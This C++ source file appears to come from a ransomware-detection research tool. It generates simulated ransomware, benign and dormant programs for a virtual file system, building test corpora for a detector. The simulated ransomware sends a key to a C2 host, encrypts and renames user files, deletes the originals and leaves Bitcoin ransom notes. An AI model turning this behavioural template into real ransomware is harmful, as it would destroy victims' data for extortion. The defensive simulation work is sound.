#include "rwdecoy/scenario/corpus.hpp"

#include <algorithm>

#include "rwdecoy/cryptodetect/cfs.hpp"
#include "rwdecoy/kb/knowledge_base.hpp"

namespace rwdecoy::scenario {

using simcore::Api;
using simcore::Expr;
using simcore::Path;
using simcore::ProgramBuilder;
using simcore::Value;

std::string to_string(WritePattern v) { return v == WritePattern::new_file ? "new_file" : "overwrite"; }
std::string to_string(ChainOrder v) { return v == ChainOrder::ec1 ? "EC1" : "EC2"; }
std::string to_string(CryptoKind v) {
  switch (v) {
    case CryptoKind::standard_api: return "standard_api";
    case CryptoKind::static_cfs: return "static_cfs";
    case CryptoKind::custom: return "custom";
  }
  return "custom";
}
std::string to_string(ExtensionKind v) { return v == ExtensionKind::known ? "known" : "novel"; }
std::string to_string(NoteChannel v) { return v == NoteChannel::file ? "file" : "wallpaper"; }

std::string to_string(CorpusEntry::Kind k) {
  switch (k) {
    case CorpusEntry::Kind::rw: return "rw";
    case CorpusEntry::Kind::benign: return "benign";
    case CorpusEntry::Kind::dormant: return "dormant";
    case CorpusEntry::Kind::program: return "program";
  }
  return "program";
}

RwGenParams params_from_fields(const std::string& write_pattern, const std::string& chain, const std::string& crypto,
                               const std::string& extension, const std::string& note_channel) {
  RwGenParams p;
  auto bad = [](const std::string& field, const std::string& value) {
    return Error(ErrorCode::format, "unknown " + field + " '" + value + "'");
  };
  if (write_pattern == "new_file") p.write_pattern = WritePattern::new_file;
  else if (write_pattern == "overwrite") p.write_pattern = WritePattern::overwrite;
  else throw bad("write_pattern", write_pattern);
  if (chain == "EC1" || chain == "ec1") p.chain = ChainOrder::ec1;
  else if (chain == "EC2" || chain == "ec2") p.chain = ChainOrder::ec2;
  else throw bad("chain", chain);
  if (crypto == "standard_api") p.crypto = CryptoKind::standard_api;
  else if (crypto == "static_cfs") p.crypto = CryptoKind::static_cfs;
  else if (crypto == "custom") p.crypto = CryptoKind::custom;
  else throw bad("crypto", crypto);
  if (extension == "known") p.extension = ExtensionKind::known;
  else if (extension == "novel") p.extension = ExtensionKind::novel;
  else throw bad("extension", extension);
  if (note_channel == "file") p.note_channel = NoteChannel::file;
  else if (note_channel == "wallpaper") p.note_channel = NoteChannel::wallpaper;
  else throw bad("note_channel", note_channel);
  return p;
}

std::string variant_name(const RwGenParams& p) {
  return "rw_" + to_string(p.write_pattern) + "_" + to_string(p.chain) + "_" + to_string(p.crypto) + "_" +
         to_string(p.extension) + "_" + to_string(p.note_channel);
}

void check_params(const RwGenParams& p) {
  if (p.static_evidence_only && p.crypto == CryptoKind::standard_api) {
    throw Error(ErrorCode::invalid_combination,
                "crypto=standard_api conflicts with static_evidence_only=true: API calls are always visible");
  }
  if (p.static_evidence_only && p.crypto == CryptoKind::custom) {
    throw Error(ErrorCode::invalid_combination,
                "crypto=custom conflicts with static_evidence_only=true: a custom cipher embeds no known constants");
  }
}

std::vector<RwGenParams> full_matrix() {
  std::vector<RwGenParams> out;
  for (auto w : {WritePattern::new_file, WritePattern::overwrite})
    for (auto c : {ChainOrder::ec1, ChainOrder::ec2})
      for (auto k : {CryptoKind::standard_api, CryptoKind::static_cfs, CryptoKind::custom})
        for (auto e : {ExtensionKind::known, ExtensionKind::novel})
          for (auto n : {NoteChannel::file, NoteChannel::wallpaper}) out.push_back({w, c, k, e, n});
  return out;
}

std::string detection_group(const RwGenParams& p) {
  if (p.extension == ExtensionKind::known) return "known_extension";
  switch (p.crypto) {
    case CryptoKind::standard_api: return "standard_crypto";
    case CryptoKind::static_cfs: return "static_crypto";
    case CryptoKind::custom: return "custom_crypto";
  }
  return "custom_crypto";
}

const std::vector<std::string>& benign_profiles() {
  static const std::vector<std::string> profiles = {
      "archiver", "encryptor", "editor",   "updater", "downloader", "compiler",
      "photo_editor", "backup", "database", "logger",  "sync_client", "media_player"};
  return profiles;
}

namespace {

// None of these contain a ransom-note keyword stem as a substring.
constexpr const char* kWords[] = {
    "quarterly", "summary", "figures", "project", "meeting", "schedule", "agenda", "review",   "budget",
    "draft",     "chapter", "section", "table",   "garden",  "travel",   "invoice", "recipe", "lecture",
    "the",       "and",     "for",     "with",    "team",    "plan",     "status",  "update", "morning",
    "north",     "river",   "market",  "sales",   "growth",  "design",   "layout",  "photo",  "album"};

Bytes prose(Rng& rng, std::size_t size) {
  std::string s;
  s.reserve(size + 16);
  while (s.size() < size) {
    s += kWords[rng.below(std::size(kWords))];
    s += rng.below(12) == 0 ? ".\n" : " ";
  }
  s.resize(size);
  return {s.begin(), s.end()};
}

Expr lit_str(std::string s) { return Expr::lit(Value{std::move(s)}); }
Expr lit_int(std::int64_t n) { return Expr::lit(Value{n}); }
Expr var(std::string name) { return Expr::ref(std::move(name)); }

Bytes code_image(Rng& rng, bool embed_aes) {
  Bytes img = rng.bytes(2048);
  if (embed_aes) {
    const auto& box = cryptodetect::aes_sbox();
    img.insert(img.begin() + 700, box.begin(), box.end());
  }
  return img;
}

void emit_fingerprint(ProgramBuilder& b) {
  b.call(Api::GetMacAddress, {}, "mac");
  b.call(Api::GetSystemTime, {}, "now");
  b.call(Api::RandBytes, {{"len", lit_int(16)}}, "salt");
  b.call(Api::RandBytes, {{"len", lit_int(32)}}, "key");
  b.assign("vid", Expr::digest({var("mac"), var("now"), var("salt")}, 16));
}

void emit_key_transfer(ProgramBuilder& b, bool split) {
  b.call(Api::Socket, {}, "sock");
  b.call(Api::Connect, {{"socket", var("sock")}, {"host", lit_str(kC2Host)}}, "conn");
  if (split) {
    b.call(Api::Send, {{"socket", var("sock")}, {"buffer", var("vid")}}, "sent");
    b.call(Api::Send, {{"socket", var("sock")}, {"buffer", Expr::concat({var("key")})}}, "sent");
  } else {
    b.call(Api::Send, {{"socket", var("sock")}, {"buffer", Expr::concat({var("vid"), var("key")})}}, "sent");
  }
}

void emit_encrypt(ProgramBuilder& b, const RwGenParams& p, std::size_t i) {
  if (p.crypto == CryptoKind::standard_api) {
    const Api api = i % 2 == 0 ? Api::CryptEncrypt : Api::AES_encrypt;
    b.call(api, {{"data", var("buf")}, {"key", var("key")}}, "enc");
  } else {
    b.assign("enc", Expr::xcrypt(var("buf"), var("key")));
  }
}

std::vector<std::string> known_extensions() {
  const auto set = kb::ExtensionList::defaults().extensions;
  return {set.begin(), set.end()};
}

// Stable across standard libraries, unlike std::hash.
std::uint64_t label_stream(std::string_view s) {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (unsigned char c : s) h = (h ^ c) * 0x100000001b3ULL;
  return h;
}

std::string novel_extension(Rng& rng) {
  std::string ext = ".";
  for (int i = 0; i < 5; ++i) ext += static_cast<char>('a' + rng.below(26));
  return ext + "q";
}

}  // namespace

simcore::VirtualFs corpus_vfs(std::uint64_t seed) {
  Rng rng(derive_seed(seed, 0xf5));
  simcore::VirtualFs fs;
  const char* user_files[] = {
      "/user/documents/report_q3.docx", "/user/documents/budget.xlsx", "/user/documents/thesis.pdf",
      "/user/documents/notes.txt",      "/user/documents/contract.doc", "/user/documents/slides.pptx",
      "/user/desktop/todo.txt",         "/user/desktop/photo.jpg",      "/user/downloads/setup_guide.pdf",
      "/user/downloads/song.mp3",       "/user/pictures/vacation.png",  "/user/pictures/family.png"};
  for (const char* f : user_files) fs.put(Path(f), prose(rng, 4096 + rng.below(8192)));
  const char* system_files[] = {"/tmp/archive_in/part1.dat", "/tmp/archive_in/part2.dat", "/tmp/archive_in/part3.dat",
                                "/program/app/app.exe",      "/program/app/lib.dll",      "/program/app/old_patch.bin",
                                "/proj/src/main.c",          "/proj/src/util.c",          "/var/log/app.log",
                                "/backup/old/backup_1.bak",  "/media/track1.ogg"};
  for (const char* f : system_files) fs.put(Path(f), prose(rng, 1024 + rng.below(6144)));
  return fs;
}

std::uint32_t enumerable_files(const simcore::VirtualFs& fs) {
  return static_cast<std::uint32_t>(fs.list_under(Path("/user")).size());
}

SimProgram generate_rw(const RwGenParams& p, std::uint64_t seed, const simcore::VirtualFs& fs) {
  check_params(p);
  Rng rng(derive_seed(seed, 0x5eed));
  const auto known = known_extensions();
  const std::string ext = p.extension == ExtensionKind::known ? known[rng.below(known.size())] : novel_extension(rng);
  const std::uint32_t available = enumerable_files(fs);
  const std::uint32_t n = p.target_files == 0 ? available : std::min(p.target_files, available);

  ProgramBuilder b;
  b.code_image(code_image(rng, p.crypto == CryptoKind::static_cfs));
  emit_fingerprint(b);
  if (p.chain == ChainOrder::ec1) emit_key_transfer(b, p.split_key_send);

  b.call(Api::FindFirstFile, {{"dir", lit_str("/user")}}, "p");
  for (std::uint32_t i = 0; i < n; ++i) {
    if (i > 0) b.call(Api::FindNextFile, {}, "p");
    b.assign("dst", Expr::concat({var("p"), lit_str(ext)}));
    if (p.write_pattern == WritePattern::new_file) {
      b.call(Api::CreateFile, {{"path", var("p")}, {"disposition", lit_str("OPEN_EXISTING")}}, "ho");
      b.call(Api::ReadFile, {{"handle", var("ho")}}, "buf");
      emit_encrypt(b, p, i);
      b.call(Api::CreateFile, {{"path", var("dst")}, {"disposition", lit_str("CREATE_NEW")}}, "hd");
      b.call(Api::WriteFile, {{"handle", var("hd")}, {"buffer", var("enc")}}, "ok");
      b.call(Api::CloseHandle, {{"handle", var("ho")}}, "ok");
      b.call(Api::CloseHandle, {{"handle", var("hd")}}, "ok");
      b.call(Api::DeleteFile, {{"path", var("p")}}, "ok");
    } else {
      // Families with a recognizable extension rename before touching data.
      const bool rename_first = p.extension == ExtensionKind::known;
      if (rename_first) {
        b.call(Api::MoveFile, {{"src", var("p")}, {"dst", var("dst")}}, "ok");
        b.assign("p", var("dst"));
      }
      b.call(Api::CreateFile, {{"path", var("p")}, {"disposition", lit_str("OPEN_EXISTING")}}, "ho");
      b.call(Api::ReadFile, {{"handle", var("ho")}}, "buf");
      emit_encrypt(b, p, i);
      b.call(Api::SetFilePointer, {{"handle", var("ho")}, {"offset", lit_int(0)}}, "ok");
      b.call(Api::WriteFile, {{"handle", var("ho")}, {"buffer", var("enc")}}, "ok");
      b.call(Api::CloseHandle, {{"handle", var("ho")}}, "ok");
      if (!rename_first) b.call(Api::MoveFile, {{"src", var("p")}, {"dst", var("dst")}}, "ok");
    }
  }

  if (p.chain == ChainOrder::ec2) emit_key_transfer(b, p.split_key_send);

  if (p.note_channel == NoteChannel::file) {
    b.call(Api::CreateFile,
           {{"path", lit_str("/user/desktop/README_RESTORE_FILES.txt")}, {"disposition", lit_str("CREATE_ALWAYS")}},
           "hn");
    b.call(Api::WriteFile,
           {{"handle", var("hn")},
            {"buffer", lit_str("All of your files have been encrypted.\nSend 0.5 Bitcoin to the wallet below to "
                               "receive the decryption tool. Ignore this and you will lose them.\n")}},
           "ok");
    b.call(Api::CloseHandle, {{"handle", var("hn")}}, "ok");
  } else {
    b.call(Api::SetWallpaper, {{"text", lit_str("YOUR FILES ARE ENCRYPTED - PAY THE RANSOM IN BITCOIN")}}, "ok");
  }
  b.halt();
  return b.build();
}

namespace {

void read_file(ProgramBuilder& b, const std::string& path, const std::string& into) {
  b.call(Api::CreateFile, {{"path", lit_str(path)}, {"disposition", lit_str("OPEN_EXISTING")}}, "h");
  b.call(Api::ReadFile, {{"handle", var("h")}}, into);
  b.call(Api::CloseHandle, {{"handle", var("h")}}, "ok");
}

void write_file(ProgramBuilder& b, const std::string& path, const std::string& disposition, Expr data) {
  b.call(Api::CreateFile, {{"path", lit_str(path)}, {"disposition", lit_str(disposition)}}, "h");
  b.call(Api::WriteFile, {{"handle", var("h")}, {"buffer", std::move(data)}}, "ok");
  b.call(Api::CloseHandle, {{"handle", var("h")}}, "ok");
}

std::string text_block(Rng& rng, std::size_t n) {
  const Bytes b = prose(rng, n);
  return {b.begin(), b.end()};
}

}  // namespace

SimProgram generate_benign(const std::string& profile, std::uint64_t seed) {
  Rng rng(derive_seed(seed, label_stream(profile)));
  ProgramBuilder b;
  b.code_image(code_image(rng, profile == "archiver"));

  if (profile == "archiver") {
    // Compress-and-protect a staging folder, then remove the staged inputs.
    for (int i = 1; i <= 3; ++i) read_file(b, "/tmp/archive_in/part" + std::to_string(i) + ".dat", "b" + std::to_string(i));
    b.call(Api::RandBytes, {{"len", lit_int(32)}}, "k");
    b.assign("arc", Expr::xcrypt(Expr::concat({var("b1"), var("b2"), var("b3")}), var("k")));
    write_file(b, "/user/documents/staging.7z", "CREATE_NEW", var("arc"));
    for (int i = 1; i <= 3; ++i) {
      b.call(Api::DeleteFile, {{"path", lit_str("/tmp/archive_in/part" + std::to_string(i) + ".dat")}}, "ok");
    }
  } else if (profile == "encryptor") {
    b.call(Api::RandBytes, {{"len", lit_int(32)}}, "k");
    for (const char* f : {"/user/documents/notes.txt", "/user/documents/contract.doc"}) {
      const std::string src = f;
      read_file(b, src, "buf");
      b.call(Api::CryptEncrypt, {{"data", var("buf")}, {"key", var("k")}}, "enc");
      write_file(b, src + ".gpg", "CREATE_NEW", var("enc"));
      b.call(Api::DeleteFile, {{"path", lit_str(src)}}, "ok");
    }
  } else if (profile == "editor") {
    b.call(Api::CreateFile, {{"path", lit_str("/user/documents/notes.txt")}, {"disposition", lit_str("OPEN_EXISTING")}}, "h");
    b.call(Api::ReadFile, {{"handle", var("h")}}, "buf");
    b.call(Api::SetFilePointer, {{"handle", var("h")}, {"offset", lit_int(128)}}, "ok");
    b.call(Api::WriteFile, {{"handle", var("h")}, {"buffer", lit_str(text_block(rng, 300))}}, "ok");
    b.call(Api::SetFilePointer, {{"handle", var("h")}, {"offset", lit_int(0)}}, "ok");
    b.call(Api::WriteFile, {{"handle", var("h")}, {"buffer", lit_str("Title: " + text_block(rng, 60))}}, "ok");
    b.call(Api::CloseHandle, {{"handle", var("h")}}, "ok");
    write_file(b, "/user/documents/draft.txt", "CREATE_NEW", lit_str(text_block(rng, 2000)));
  } else if (profile == "updater") {
    b.call(Api::DeleteFile, {{"path", lit_str("/program/app/old_patch.bin")}}, "ok");
    write_file(b, "/program/app/patch_2.bin", "CREATE_ALWAYS", lit_str(text_block(rng, 3000)));
    write_file(b, "/program/app/app.exe", "CREATE_ALWAYS", lit_str(text_block(rng, 5000)));
  } else if (profile == "downloader") {
    b.call(Api::Socket, {}, "s");
    b.call(Api::Connect, {{"socket", var("s")}, {"host", lit_str("cdn.sim:443")}}, "ok");
    b.call(Api::Send, {{"socket", var("s")}, {"buffer", lit_str("GET /files/manual.pdf")}}, "ok");
    b.call(Api::CloseHandle, {{"handle", var("s")}}, "ok");
    write_file(b, "/user/downloads/manual.pdf", "CREATE_NEW", lit_str(text_block(rng, 6000)));
  } else if (profile == "compiler") {
    read_file(b, "/proj/src/main.c", "a");
    read_file(b, "/proj/src/util.c", "c");
    write_file(b, "/proj/build/tmp_1.s", "CREATE_ALWAYS", Expr::concat({var("a"), var("c")}));
    b.assign("obj", Expr::concat({Expr::digest({var("a")}, 32), Expr::digest({var("c")}, 32), var("a")}));
    write_file(b, "/proj/build/main.o", "CREATE_ALWAYS", var("obj"));
    b.call(Api::DeleteFile, {{"path", lit_str("/proj/build/tmp_1.s")}}, "ok");
  } else if (profile == "photo_editor") {
    read_file(b, "/user/pictures/vacation.png", "img");
    write_file(b, "/user/pictures/vacation_edit.png", "CREATE_NEW",
               Expr::concat({var("img"), lit_str(" [filter: warm]")}));
  } else if (profile == "backup") {
    for (const char* f : {"report_q3.docx", "budget.xlsx", "thesis.pdf"}) {
      read_file(b, std::string("/user/documents/") + f, "buf");
      write_file(b, std::string("/backup/new/") + f + ".bak", "CREATE_NEW", var("buf"));
    }
    b.call(Api::DeleteFile, {{"path", lit_str("/backup/old/backup_1.bak")}}, "ok");
  } else if (profile == "database") {
    b.call(Api::CreateFile, {{"path", lit_str("/data/app.db")}, {"disposition", lit_str("CREATE_ALWAYS")}}, "h");
    b.call(Api::WriteFile, {{"handle", var("h")}, {"buffer", lit_str(text_block(rng, 4000))}}, "ok");
    b.call(Api::SetFilePointer, {{"handle", var("h")}, {"offset", lit_int(0)}}, "ok");
    b.call(Api::WriteFile, {{"handle", var("h")}, {"buffer", lit_str("DBHEADER v2 pages=1")}}, "ok");
    b.call(Api::CloseHandle, {{"handle", var("h")}}, "ok");
  } else if (profile == "logger") {
    b.call(Api::CreateFile, {{"path", lit_str("/var/log/app.log")}, {"disposition", lit_str("OPEN_EXISTING")}}, "h");
    b.call(Api::ReadFile, {{"handle", var("h")}}, "old");
    b.call(Api::GetSystemTime, {}, "t");
    b.call(Api::WriteFile, {{"handle", var("h")}, {"buffer", Expr::concat({lit_str("\n[info] "), lit_str(text_block(rng, 80))})}},
           "ok");
    b.call(Api::CloseHandle, {{"handle", var("h")}}, "ok");
  } else if (profile == "sync_client") {
    read_file(b, "/user/documents/budget.xlsx", "buf");
    b.call(Api::Socket, {}, "s");
    b.call(Api::Connect, {{"socket", var("s")}, {"host", lit_str("sync.sim:443")}}, "ok");
    b.call(Api::Send, {{"socket", var("s")}, {"buffer", var("buf")}}, "ok");
    b.call(Api::CloseHandle, {{"handle", var("s")}}, "ok");
  } else if (profile == "media_player") {
    read_file(b, "/media/track1.ogg", "track");
    b.call(Api::SetWallpaper, {{"text", lit_str("Now playing: track one, summer album")}}, "ok");
  } else {
    throw Error(ErrorCode::format, "unknown benign profile '" + profile + "'");
  }
  b.halt();
  return b.build();
}

SimProgram generate_dormant(std::uint64_t seed) {
  Rng rng(derive_seed(seed, 0xd0));
  ProgramBuilder b;
  b.code_image(code_image(rng, false));
  emit_fingerprint(b);
  const auto poll = b.call(Api::Socket, {}, "sock");
  b.call(Api::Connect, {{"socket", var("sock")}, {"host", lit_str(kC2Host)}}, "conn");
  b.call(Api::CloseHandle, {{"handle", var("sock")}}, "ok");
  b.jmp(poll);
  return b.build();
}

SimProgram generate_reset_sample(const std::string& sample_id, std::uint64_t seed, const simcore::VirtualFs& fs) {
  RwGenParams p;
  p.extension = ExtensionKind::novel;
  if (sample_id == "r1") {
    p.chain = ChainOrder::ec1;
    p.split_key_send = true;
  } else if (sample_id == "r2") {
    p.chain = ChainOrder::ec2;
  } else if (sample_id == "r3") {
    p.chain = ChainOrder::ec1;
  } else if (sample_id == "r4") {
    p.chain = ChainOrder::ec2;
    p.write_pattern = WritePattern::overwrite;
  } else {
    throw Error(ErrorCode::format, "unknown reset sample '" + sample_id + "'");
  }
  return generate_rw(p, derive_seed(seed, label_stream(sample_id)), fs);
}

std::vector<CorpusEntry> generate_corpus(const std::vector<RwGenParams>& params,
                                         const std::vector<std::string>& benign, std::uint32_t dormant,
                                         std::uint64_t seed) {
  const simcore::VirtualFs fs = corpus_vfs(seed);
  std::vector<CorpusEntry> out;
  for (std::size_t i = 0; i < params.size(); ++i) {
    out.push_back({variant_name(params[i]), CorpusEntry::Kind::rw, params[i],
                   generate_rw(params[i], derive_seed(seed, 100 + i), fs)});
  }
  for (const auto& name : benign) {
    out.push_back({"benign_" + name, CorpusEntry::Kind::benign, std::nullopt, generate_benign(name, seed)});
  }
  for (std::uint32_t i = 0; i < dormant; ++i) {
    out.push_back({"dormant_" + std::to_string(i), CorpusEntry::Kind::dormant, std::nullopt,
                   generate_dormant(derive_seed(seed, 900 + i))});
  }
  return out;
}

}  // namespace rwdecoy::scenario
